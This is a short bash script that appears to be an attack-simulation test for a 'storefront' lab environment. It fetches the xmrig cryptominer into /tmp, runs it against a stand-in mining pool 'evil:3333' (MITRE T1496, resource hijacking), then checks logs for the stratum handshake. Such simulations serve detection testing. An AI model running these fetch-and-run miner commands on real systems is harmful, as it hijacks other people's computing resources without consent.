#!/usr/bin/env bash
# Brings a miner to the storefront, which shakes hands with a mining pool (stratum) and hashes for a second. MITRE ATT&CK T1496, Resource Hijacking.
. "$(dirname "$0")/lib.sh"

later "in_storefront rm -rf /tmp/$mark"
out=$(through_label "mkdir /tmp/$mark; $(fetch_tool "/tmp/$mark/xmrig"); /tmp/$mark/xmrig -o evil:3333 -u $mark")
seen "stratum from .*mining.authorize.*$mark" || stopped "no miner called the pool: $out"
[[ $out == *"gave work"* ]] || stopped "the handshake was not finished: $out"
worked "$out"
